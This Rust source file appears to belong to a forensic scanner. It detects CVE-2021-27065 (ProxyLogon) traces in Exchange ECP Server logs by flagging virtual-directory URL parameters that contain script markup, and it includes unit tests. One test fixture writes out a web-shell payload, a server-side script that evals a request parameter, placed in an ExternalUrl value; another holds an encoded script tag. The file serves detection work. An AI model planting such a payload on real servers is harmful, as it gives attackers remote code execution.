//! ECP Server logs: CVE-2021-27065 (virtual-directory URL set to a script).
//!
//! A row is a trace when it holds a `Set-<Something>VirtualDirectory` command and, after it, a
//! `…Url=` parameter (`ExternalUrl`, `InternalUrl`, …) whose value holds an HTML/script tag
//! (`<script`, `<%`, `runat=`, or `<` followed by a letter, `/`, `!` or `%`), also when
//! percent- or HTML-entity-encoded. Kind [`FindingKind::ProxylogonVdirWrite`], severity
//! **Critical**: no legitimate URL holds markup, and this is the shell being planted. Repeated
//! rows with the same cmdlet and value are grouped. Plain `Set-…VirtualDirectory` commands
//! (administration) are not traces.

use super::group::Grouper;
use super::text::{for_each_csv_row, percent_decode, quote, truncate, Coverage, Diags};
use super::{LogReport, Trace};
use crate::finding::detail::{Detail, EcpServerDetail};
use crate::finding::{FindingKind, Severity};

/// At most this many `…Url=` parameters are examined per field.
const MAX_URL_PARAMS: usize = 32;
/// Longest parameter value examined.
const MAX_VALUE: usize = 4096;

/// `floor_char_boundary` for stable Rust.
trait FloorBoundary {
    fn floor_char_boundary_compat(&self, max: usize) -> usize;
}

impl FloorBoundary for str {
    fn floor_char_boundary_compat(&self, max: usize) -> usize {
        if max >= self.len() {
            return self.len();
        }
        let mut i = max;
        while i > 0 && !self.is_char_boundary(i) {
            i -= 1;
        }
        i
    }
}

/// The `Set-…VirtualDirectory` cmdlet name in `s` and the byte offset just after it.
pub(crate) fn vdir_cmdlet(s: &str) -> Option<(&str, usize)> {
    let lower = s.to_ascii_lowercase();
    let mut from = 0;
    while let Some(p) = lower.get(from..).and_then(|r| r.find("set-")) {
        let start = from + p;
        let name_end = lower
            .get(start + 4..)?
            .find(|c: char| !c.is_ascii_alphanumeric())
            .map_or(lower.len(), |e| start + 4 + e);
        let name = lower.get(start..name_end)?;
        if name.len() > "set-virtualdirectory".len() && name.ends_with("virtualdirectory") {
            return Some((s.get(start..name_end)?, name_end));
        }
        from = start + 4;
    }
    None
}

/// True when `v` holds markup.
pub(crate) fn has_tag(v: &str) -> bool {
    let check = |s: &str| {
        let l = s.to_ascii_lowercase();
        if l.contains("<script") || l.contains("<%") || l.contains("runat=") {
            return true;
        }
        let b = l.as_bytes();
        b.windows(2).any(|w| {
            w[0] == b'<' && (w[1].is_ascii_alphabetic() || matches!(w[1], b'/' | b'!' | b'%'))
        })
    };
    check(v)
        || check(&percent_decode(v, false))
        || check(
            &v.replace("&lt;", "<")
                .replace("&#60;", "<")
                .replace("&#x3c;", "<"),
        )
}

/// `(parameter, value)` of the first `…Url=` parameter after `from` whose value holds markup.
/// The value runs to the end of the field (a closing quote ends it when it opened with one).
pub(crate) fn url_param_with_tag(s: &str, from: usize) -> Option<(String, String)> {
    let lower = s.to_ascii_lowercase();
    let mut pos = from;
    let mut examined = 0;
    while let Some(p) = lower.get(pos..).and_then(|r| r.find("url")) {
        let at = pos + p;
        pos = at + 3;
        let after = lower.get(at + 3..)?.trim_start_matches([' ', '\'', '"']);
        let Some(value_rest) = after.strip_prefix('=').or_else(|| after.strip_prefix(':')) else {
            continue;
        };
        // A hostile line full of `url=` must stay linear.
        examined += 1;
        if examined > MAX_URL_PARAMS {
            return None;
        }
        let value_start = s.len() - value_rest.len();
        let head = lower.get(..at + 3)?;
        let name_start = head
            .rfind(|c: char| !c.is_ascii_alphanumeric())
            .map_or(0, |i| i + 1);
        let name = s.get(name_start..at + 3)?.to_string();
        // Values are short; bounding them keeps a hostile line with many `url=` linear.
        let full = s.get(value_start..)?.trim_start();
        let mut value = full
            .get(..full.floor_char_boundary_compat(MAX_VALUE))
            .unwrap_or(full);
        if let Some(q) = value.strip_prefix('\'') {
            value = q.rfind('\'').and_then(|e| q.get(..e)).unwrap_or(q);
        }
        if has_tag(value) {
            return Some((name, truncate(value, 1024)));
        }
    }
    None
}

pub(crate) fn check(src: &mut dyn std::io::Read) -> LogReport {
    let mut report = LogReport::default();
    let mut cov = Coverage::default();
    let mut diags = Diags::default();
    let mut groups = Grouper::default();
    for_each_csv_row(
        src,
        "virtualdirectory",
        &mut report,
        &mut cov,
        &mut diags,
        |row| {
            // Search field by field (CSV unquoted), then the raw line.
            let hit = row
                .rec
                .iter()
                .map(String::as_str)
                .chain(std::iter::once(row.line))
                .find_map(|f| {
                    let (cmd, end) = vdir_cmdlet(f)?;
                    let (param, value) = url_param_with_tag(f, end)?;
                    Some((cmd.to_string(), param, value))
                });
            let Some((cmd, param, value)) = hit else {
                return;
            };
            let time = row.time.clone();
            let key = format!("{}\u{1}{}", cmd.to_ascii_lowercase(), value);
            groups.push(
                key,
                Some(row.line_no),
                None,
                Severity::Critical,
                time.as_deref(),
                || Trace {
                    kind: FindingKind::ProxylogonVdirWrite,
                    severity: Severity::Critical,
                    cve: vec!["CVE-2021-27065".into()],
                    title: format!("CVE-2021-27065: {cmd} sets {param} to a script"),
                    line: Some(row.line_no),
                    record_id: None,
                    quote: quote(row.line),
                    detail: Detail::EcpServer(EcpServerDetail {
                        log: "ECP Server".into(),
                        time: time.clone(),
                        cmdlet: cmd,
                        parameter: param,
                        value,
                        client_ip: row
                            .get("clientipaddress")
                            .or_else(|| row.get("client-ip"))
                            .map(str::to_string),
                        user: row
                            .get("authenticateduser")
                            .or_else(|| row.get("user"))
                            .map(str::to_string),
                        group: None,
                    }),
                },
            );
        },
    );
    groups.finish(&mut report, &mut diags);
    cov.finish(&mut report);
    diags.finish(&mut report);
    report
}

#[cfg(test)]
mod tests {
    use super::*;

    const HDR: &str = "#Software: Microsoft Exchange Server\r\n#Log-type: ECP Server Log\r\n#Fields: DateTime,ServerName,EventId,ActivityContext\r\n";

    #[test]
    fn script_in_external_url() {
        let bad = "2021-03-03T05:10:00.5Z,EXCH01,ecp,\"S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"\"JScript\"\" runat=\"\"server\"\">function Page_Load(){eval(Request[\"\"x\"\"],\"\"unsafe\"\");}</script>'.Identity='0a0b';S:REQID=x\"\r\n";
        let benign = "2021-03-03T06:00:00Z,EXCH01,ecp,\"S:CMD=Set-OwaVirtualDirectory.ExternalUrl='https://mail.contoso.com/owa'.Identity='1'\"\r\n";
        let encoded = "2021-03-03T06:01:00Z,EXCH01,ecp,S:CMD=Set-EcpVirtualDirectory.InternalUrl=http://x/%3Cscript%3Ealert(1)%3C/script%3E\r\n";
        let not_vdir =
            "2021-03-03T06:02:00Z,EXCH01,ecp,\"S:CMD=Set-Mailbox.CustomAttribute1='<b>x</b>'\"\r\n";
        let log = format!("{HDR}{bad}{bad}{benign}{encoded}{not_vdir}");
        let r = check(&mut log.as_bytes());
        assert_eq!(r.entries, 5);
        assert_eq!(r.traces.len(), 2, "{:#?}", r.traces);
        let t = &r.traces[0];
        assert_eq!(t.kind, FindingKind::ProxylogonVdirWrite);
        assert_eq!(t.severity, Severity::Critical);
        assert_eq!(t.detail.to_value()["cmdlet"], "Set-OabVirtualDirectory");
        assert_eq!(t.detail.to_value()["parameter"], "ExternalUrl");
        assert_eq!(t.detail.to_value()["count"], 2);
        assert!(t.detail.to_value()["value"]
            .as_str()
            .unwrap()
            .starts_with("http://f/<script"));
        assert_eq!(r.traces[1].detail.to_value()["parameter"], "InternalUrl");
        assert_eq!(r.oldest.as_deref(), Some("2021-03-03T05:10:00.5Z"));
    }

    #[test]
    fn helpers() {
        assert_eq!(
            vdir_cmdlet("x Set-OabVirtualDirectory.y").map(|c| c.0),
            Some("Set-OabVirtualDirectory")
        );
        assert_eq!(vdir_cmdlet("Set-VirtualDirectory"), None);
        assert_eq!(vdir_cmdlet("set-"), None);
        assert!(has_tag("http://x/<%eval%>"));
        assert!(has_tag("http://x/&lt;script&gt;"));
        assert!(!has_tag("http://x/a<1"));
        assert!(!has_tag("https://mail.contoso.com/owa"));
    }
}
